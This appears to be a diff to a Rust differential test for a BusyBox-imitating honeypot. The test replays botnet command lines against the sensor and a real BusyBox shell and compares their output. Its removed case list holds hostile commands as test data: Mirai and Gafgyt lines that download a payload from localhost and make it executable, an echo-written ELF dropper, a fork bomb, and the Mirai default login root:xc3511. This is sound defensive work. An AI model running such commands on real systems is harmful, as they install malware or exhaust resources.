@@ -1,10 +1,13 @@
-//! Command lines bots send, run in busybait's `oracle` profile and in the real BusyBox
-//! 1.35 ash behind a real telnetd in the oracle sandbox; whole byte streams compared.
+//! The fidelity corpus (`tests/fidelity/corpus.txt`): command lines bots send and our
+//! own cases in the spirit of BusyBox's testsuite, run in busybait's `oracle` profile
+//! and in the real BusyBox 1.35 ash behind a real telnetd in the oracle sandbox; whole
+//! byte streams compared, per group, and against the real outputs committed in
+//! `tests/fidelity/expected.txt` (so that drift of the oracle itself is noticed).
+//! The two real attacker sessions of the shared data are a group of their own.
+//! busybait serves the host's real `/bin/busybox` as its image here
+//! (`busybox_image`), as an operator would serve the imitated device's.
 //!
-//! The lines: every command of the Mirai loader transcript (reference §3.7), the
-//! Satori and Gafgyt cues, and more of our own. Lines whose output is host-specific
-//! (`ps`, `/proc/cpuinfo`, the bytes of the busybox binary past its header) are left to
-//! the fidelity issue's normalising corpus.
+//! `BUSYBAIT_FIDELITY_BLESS=1` rewrites expected.txt from the oracle.
 
 #![allow(
     clippy::indexing_slicing,
@@ -18,26 +21,36 @@ mod util;
 
 use std::time::Duration;
 
-use util::oracle::{differential, read_until, Runs, Transcript, Wire};
+use std::collections::BTreeMap;
+
+use util::corpus::{self, Case, Expected};
+use util::oracle::{read_until, read_until_quiet, Oracle, Transcript, Wire};
 
 const MIRAI_REPLY: &[u8] =
     b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03";
 
 /// Logs in, then sends each line and waits for the next prompt's `ESC [6n`.
 /// Returns everything after the login.
-fn session(w: &mut dyn Wire, lines: &[&str]) -> Transcript {
+fn session(w: &mut dyn Wire, lines: &[Vec<u8>]) -> Transcript {
     let mut buf = Vec::new();
     w.write_all(MIRAI_REPLY).unwrap();
-    read_until(w, &mut buf, b"login: ", Duration::from_secs(5));
+    let (login, _) = read_until(w, &mut buf, b"login: ", Duration::from_secs(15));
     w.write_all(b"root\r\n").unwrap();
-    read_until(w, &mut buf, b"Password: ", Duration::from_secs(5));
+    let (password, _) = read_until(w, &mut buf, b"Password: ", Duration::from_secs(15));
+    // A prompt that never came is the harness's problem (a stalled machine), not
+    // a difference: say so in the transcript, where the comparison will show it.
+    if !login.ends_with(b"login: ") || !password.ends_with(b"Password: ") {
+        return (
+            format!("HARNESS: login prompts not seen: {login:?} {password:?}").into_bytes(),
+            true,
+        );
+    }
     w.write_all(b"xc3511\r\n").unwrap();
     read_until(w, &mut buf, b"\x1b[6n", Duration::from_secs(5));
     let mut all = Vec::new();
     for line in lines {
-        w.write_all(line.as_bytes()).unwrap();
-        w.write_all(b"\r\n").unwrap();
-        let (b, closed) = read_until(w, &mut buf, b"\x1b[6n", Duration::from_secs(10));
+        w.write_all(line).unwrap();
+        let (b, closed) = read_until_quiet(w, &mut buf, b"\x1b[6n", Duration::from_secs(10));
         all.extend(b);
         if closed {
             return (all, true);
@@ -46,99 +59,213 @@ fn session(w: &mut dyn Wire, lines: &[&str]) -> Transcript {
     (all, false)
 }
 
-fn cases() -> Vec<(&'static str, Vec<&'static str>)> {
-    let kami = |p: &'static str| -> &'static str {
-        Box::leak(
-            format!("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69{p}' > {p}/.nippon; /bin/busybox cat {p}/.nippon; /bin/busybox rm {p}/.nippon")
-                .into_boxed_str(),
-        )
+/// The commands of the two real sessions (Cowrie logs in the shared data), each
+/// one case of the group `real-sessions`.
+fn real_sessions() -> Vec<Case> {
+    ["satori-telnet-2023-12-12", "gafgyt-ssh-2023-12-09"]
+        .iter()
+        .map(|name| {
+            let path = util::shared_data()
+                .join("sessions")
+                .join(format!("{name}.cowrie.jsonl"));
+            let text = std::fs::read_to_string(&path)
+                .unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
+            let lines: Vec<Vec<u8>> = text
+                .lines()
+                .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+                .filter(|e| e["eventid"] == "cowrie.command.input")
+                .map(|e| {
+                    let mut line = e["input"].as_str().unwrap().as_bytes().to_vec();
+                    line.extend_from_slice(b"\r\n");
+                    line
+                })
+                .collect();
+            assert!(!lines.is_empty(), "{}: no commands", path.display());
+            Case {
+                group: "real-sessions".into(),
+                name: format!("real-{name}"),
+                lines,
+            }
+        })
+        .collect()
+}
+
+/// Where two transcripts part, with some context (whole, when short).
+fn difference(real: &Transcript, ours: &Transcript) -> String {
+    let at = real
+        .0
+        .iter()
+        .zip(&ours.0)
+        .position(|(a, b)| a != b)
+        .unwrap_or(real.0.len().min(ours.0.len()));
+    let from = at.saturating_sub(300);
+    let window = |t: &Transcript| {
+        let end = (at + 300).min(t.0.len());
+        let part = (t.0.get(from..end).unwrap_or_default().to_vec(), t.1);
+        show(&part)
     };
-    vec![
-        // Mirai scanner and loader (§1.5, §3.2, §3.7).
-        ("mirai-scanner", vec!["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]),
-        ("mirai-loader-burst", vec!["enable\r\nshell\r\nsh", "/bin/busybox ECCHI"]),
-        ("mirai-kami-var", vec![kami("/var")]),
-        ("mirai-kami-proc", vec![kami("/proc")]),
-        ("mirai-kami-dev", vec![kami("/dev")]),
-        ("mirai-kami-tmp", vec![kami("/tmp")]),
-        ("mirai-kami-nonexistent", vec![kami("/nonexist")]),
-        ("mirai-cleanup-probes", vec!["rm /var/.t; rm /var/.sh; rm /var/.human"]),
-        (
-            "mirai-copy-echo",
-            vec!["cd /var/", "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", "ls -l dvrHelper | cut -c1-10"],
-        ),
-        ("mirai-elf-header", vec!["/bin/busybox dd if=/bin/echo bs=20 count=1 2>/dev/null | od -An -tx1"]),
-        ("mirai-upload-probe", vec!["/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI"]),
-        ("mirai-wget", vec!["cd /tmp", "/bin/busybox wget http://127.0.0.1:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"]),
-        (
-            "mirai-echo-dropper",
-            vec![
-                "cd /tmp",
-                "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
-                "/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI",
-                "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00' > upnp; /bin/busybox ECCHI",
-                "echo -ne '\\x02\\x00\\x28\\x00\\x01\\x00\\x00\\x00' >> upnp; /bin/busybox ECCHI",
-                "wc -c upnp; ls -l upnp | cut -c1-10",
-                "rm -rf upnp; > dvrHelper; /bin/busybox ECCHI",
-            ],
-        ),
-        ("mirai-exec-token", vec!["/bin/busybox IHCCE"]),
-        // Satori (§5.2).
-        ("satori-token", vec!["/bin/busybox SATORI"]),
-        ("satori-method-probe", vec!["/bin/busybox wget; /bin/busybox tftp; /bin/busybox HGYQA"]),
-        ("satori-arch-probe", vec!["/bin/busybox dd if=/bin/busybox bs=22 count=1 2>/dev/null | od -An -tx1"]),
-        ("satori-mounts-token", vec!["/bin/busybox DMSNA"]),
-        ("satori-writable-dir", vec!["/bin/busybox mkdir /tmp/x; >/tmp/x.file && cd /tmp/x", "pwd"]),
-        // Gafgyt (§5.2 and the real session), one piece at a time.
-        ("gafgyt-cd-chain", vec!["cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; pwd"]),
-        ("gafgyt-wget", vec!["cd /tmp; wget http://127.0.0.1/z.sh; echo rc=$?"]),
-        ("gafgyt-curl", vec!["curl -O http://127.0.0.1/z.sh"]),
-        ("gafgyt-chmod-missing", vec!["chmod 777 z.sh; echo rc=$?"]),
-        ("gafgyt-sh-missing", vec!["sh z.sh; echo rc=$?"]),
-        ("gafgyt-rm", vec!["rm -rf z.sh tz.sh tz2.sh z1.sh; echo rc=$?"]),
-        ("gafgyt-probe", vec!["echo -e '\\147\\141\\171\\146\\147\\164'"]),
-        ("gafgyt-busybox-probe", vec!["/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'"]),
-        // Our own.
-        ("echo-escapes", vec!["echo -ne '\\x41\\x42\\103'; echo", "echo -e 'a\\tb\\0101'", "echo -n x; echo y", "echo -e 'x\\cy'; echo", "echo -E '\\x41' -n"]),
-        ("echo-options-as-text", vec!["echo -x -n a", "echo - a", "echo -- a"]),
-        ("printf", vec!["printf '%s-%d\\n' ab 12", "printf '%5s|%-3s|\\n' a b"]),
-        ("arith", vec!["echo $((1+2)) $((7/2)) $((1<<3)) $((10%3)) $((-5+2))"]),
-        ("params", vec!["X=abc; echo ${X} ${#X} ${Y:-def} ${Z:=zz} $Z", "set -- a b c; echo $# $1 $3"]),
-        ("for-loop", vec!["for i in a b c; do echo $i; done"]),
-        (
-            "break-continue",
-            vec!["for i in 1 2 3; do for j in a b c; do [ $j = b ] && continue; [ $i = 2 ] && continue 2; [ $i = 3 ] && break 2; echo $i$j; done; echo end$i; done; echo out"],
-        ),
-        ("if-elif", vec!["if false; then echo no; elif true; then echo yes; else echo x; fi"]),
-        ("subshell-status", vec!["(exit 3); echo $?", "(cd /tmp; pwd); pwd"]),
-        ("and-or", vec!["true && echo t || echo f; false || echo f2; false && echo no; echo $?"]),
-        ("while-read", vec!["echo one > /tmp/l; echo two >> /tmp/l; while read x; do echo \"[$x]\"; done < /tmp/l"]),
-        ("redirections", vec!["echo hi > /tmp/f; cat /tmp/f; echo more >> /tmp/f; cat /tmp/f; wc -l /tmp/f", "echo err >&2", "cat /nonexist 2>/dev/null; echo rc=$?"]),
-        ("pipes", vec!["echo a | cat", "echo hello | tr a-z A-Z", "printf 'b\\na\\nb\\n' | sort | uniq -c"]),
-        ("substitution", vec!["echo $(echo sub) `echo bt` \"$(echo 'q d')\""]),
-        ("quoting", vec!["echo \"a b\"c'd e' \\$x", "echo 'a\"b' \"c'd\""]),
-        ("errors", vec!["cd /nonexist", "cat /nonexist", "foo", "./foo", "rm /var/.t", "rm -rf /var/nothing; echo rc=$?"]),
-        ("kill-missing", vec!["kill -9 99999; echo rc=$?"]),
-        ("killall-missing", vec!["killall foo; echo rc=$?"]),
-        ("nc-refused", vec!["nc 127.0.0.1 9; echo rc=$?"]),
-        ("mkdir-rmdir", vec!["mkdir /tmp/d; mkdir /tmp/d", "rmdir /tmp/nonexist", "rmdir /tmp/d; echo rc=$?"]),
-        ("mv-cp-missing", vec!["cp /nonexist /tmp/x", "mv /nonexist /tmp/x"]),
-        ("uname", vec!["uname -m; uname -s; uname -n"]),
-        ("identity", vec!["id; whoami; hostname"]),
-        ("syntax-errors", vec!["fi", "echo a; fi", ";", ":(){ :|:& };:"]),
-        ("cut-grep", vec!["printf 'b:2\\na:1\\n' > /tmp/f; cut -d: -f2 /tmp/f; grep a /tmp/f; grep -c b /tmp/f; grep zz /tmp/f; echo rc=$?"]),
-        ("head-tail-wc", vec!["printf '1\\n2\\n3\\n' > /tmp/n; head -n 2 /tmp/n; tail -n 1 /tmp/n; wc -c /tmp/n; head -c 3 /tmp/n; echo"]),
-        ("nested-sh-errors", vec!["sh", "foo", "exit", "foo"]),
-        ("test-brackets", vec!["[ -d /tmp ] && echo dir; [ -f /nonexist ] || echo nofile; test 1 -lt 2; echo $?", "[ a = b ]; echo $?"]),
-    ]
+    format!(
+        "  lengths {} and {}, first difference at byte {at}\n  real: ...{}\n  ours: ...{}",
+        real.0.len(),
+        ours.0.len(),
+        window(real),
+        window(ours)
+    )
+}
+
+/// Groups that must be identical throughout.
+const EXACT_GROUPS: [&str; 3] = ["mirai-loader", "family-cues", "real-sessions"];
+
+fn show(t: &Transcript) -> String {
+    let text = String::from_utf8_lossy(&t.0);
+    let text: String = text.chars().take(3000).collect();
+    format!("{text:?} closed={}", t.1)
 }
 
 #[test]
-fn bot_command_lines_match_real_busybox() {
-    let cases = cases();
-    assert!(cases.len() >= 50);
-    let mismatches = differential("shell", &cases, 600, Runs::Deterministic, |w, lines| {
-        session(w, lines)
-    });
-    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
+fn the_corpus_matches_real_busybox() {
+    let all: Vec<u8> = (0..=255u8).chain(*b"\n=x\n\\n").collect();
+    assert_eq!(
+        corpus::unescape(&corpus::escape(&all)),
+        all,
+        "corpus escaping"
+    );
+    let dir = corpus::dir();
+    let mut cases = corpus::load(&dir.join("corpus.txt"));
+    cases.extend(real_sessions());
+    // BUSYBAIT_FIDELITY_ONLY=NAME,...: just those cases (for debugging; the
+    // totals and the 300-case floor are then not checked).
+    let only: Option<Vec<String>> = std::env::var("BUSYBAIT_FIDELITY_ONLY")
+        .ok()
+        .map(|v| v.split(',').map(str::to_string).collect());
+    if let Some(only) = &only {
+        cases.retain(|c| only.contains(&c.name));
+    }
+    let expected_path = dir.join("expected.txt");
+    let mut expected = corpus::load_expected(&expected_path);
+    let allow = corpus::load_allowlist(&dir.join("allowlist.txt"));
+    let bless = std::env::var_os("BUSYBAIT_FIDELITY_BLESS").is_some();
+    let sensor = util::Sensor::start_with(
+        "profile = \"oracle\"\nbusybox_image = \"/bin/busybox\"\n[auth]\nmode = \"lists\"\nallow = [\"root:xc3511\"]\n",
+    );
+    let mut per_group: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
+    let mut mismatches: Vec<String> = Vec::new();
+    let mut unexplained: Vec<String> = Vec::new();
+    let mut drift: Vec<String> = Vec::new();
+    for (i, case) in cases.iter().enumerate() {
+        // Ours and the real one side by side (two cores).
+        let (ours, real) = std::thread::scope(|scope| {
+            let ours = scope.spawn(|| {
+                let mut stream = util::tcp_from(sensor.addr, util::source(1000 + i)).unwrap();
+                let t = session(&mut stream, &case.lines);
+                if t.0.starts_with(b"\r\nLogin incorrect") || t.0.starts_with(b"HARNESS") {
+                    // Seen once or twice in 362 under the oracle's load: show what the
+                    // sensor logged for this source, then try once more.
+                    let failed: Vec<String> = util::read_events(sensor.data_dir.path())
+                        .into_iter()
+                        .filter(|e| {
+                            e["src_ip"] == util::source(1000 + i).to_string()
+                                && e["eventid"] == "cowrie.login.failed"
+                        })
+                        .map(|e| format!("{}:{}", e["username"], e["password"]))
+                        .collect();
+                    println!(
+                        "RETRY {}: login failed ({:?}); the sensor logged {failed:?}",
+                        case.name,
+                        String::from_utf8_lossy(t.0.get(..60).unwrap_or(&t.0))
+                    );
+                    let mut again = util::tcp_from(sensor.addr, util::source(5000 + i)).unwrap();
+                    return session(&mut again, &case.lines);
+                }
+                t
+            });
+            let mut oracle = Oracle::start("vm", "Debian GNU/Linux 12\n");
+            let mut real = session(&mut oracle.stream, &case.lines);
+            if real.0.starts_with(b"HARNESS") {
+                println!("RETRY {} on the oracle: {}", case.name, show(&real));
+                oracle = Oracle::start("vm", "Debian GNU/Linux 12\n");
+                real = session(&mut oracle.stream, &case.lines);
+            }
+            assert!(
+                !real.0.is_empty() || real.1,
+                "oracle sent nothing for {}: {}",
+                case.name,
+                oracle.log()
+            );
+            (ours.join().unwrap(), real)
+        });
+        let real_kept = Expected::of(&real.0, real.1);
+        if bless {
+            expected.insert(case.name.clone(), real_kept);
+        } else {
+            match expected.get(&case.name) {
+                Some(e) if *e == real_kept => {}
+                Some(e) => drift.push(format!(
+                    "{}: the oracle no longer prints what expected.txt says ({e:?} before, {} bytes now):\n  now: {}",
+                    case.name,
+                    real.0.len(),
+                    show(&real)
+                )),
+                None => drift.push(format!("{}: not in expected.txt (BUSYBAIT_FIDELITY_BLESS=1 writes it)", case.name)),
+            }
+        }
+        let same = ours == real;
+        let row = per_group.entry(case.group.as_str()).or_default();
+        row.1 += 1;
+        if same {
+            row.0 += 1;
+        } else {
+            let text = format!("{}:\n{}", case.name, difference(&real, &ours));
+            if !allow.contains_key(&case.name) {
+                unexplained.push(text.clone());
+            }
+            mismatches.push(case.name.clone());
+        }
+        println!(
+            "{:<14} {:<34} {}",
+            case.group,
+            case.name,
+            if same { "identical" } else { "DIFFERENT" }
+        );
+    }
+    if bless && only.is_none() {
+        corpus::write_expected(&expected_path, &cases, &expected);
+    }
+    let (mut same_all, mut total_all) = (0, 0);
+    for (group, (same, total)) in &per_group {
+        println!("{group} identical: {same}/{total}");
+        same_all += same;
+        total_all += total;
+    }
+    println!("all identical: {same_all}/{total_all}");
+    // Allowlist entries that no longer differ must go.
+    let stale: Vec<&String> = allow
+        .keys()
+        .filter(|k| !mismatches.contains(k) && cases.iter().any(|c| &c.name == *k))
+        .collect();
+    assert!(drift.is_empty(), "{}", drift.join("\n"));
+    assert!(
+        unexplained.is_empty(),
+        "{} unexplained differences:\n{}",
+        unexplained.len(),
+        unexplained.join("\n")
+    );
+    assert!(
+        stale.is_empty(),
+        "allowlist entries that now match: {stale:?}"
+    );
+    for group in EXACT_GROUPS {
+        let (same, total) = per_group.get(group).copied().unwrap_or_default();
+        assert!(
+            same == total && (total > 0 || only.is_some()),
+            "{group}: {same}/{total} identical"
+        );
+    }
+    if only.is_none() {
+        assert!(
+            same_all * 100 >= total_all * 95,
+            "{same_all}/{total_all} identical, under 95%"
+        );
+        assert!(cases.len() >= 300, "the corpus has {} cases", cases.len());
+    }
 }
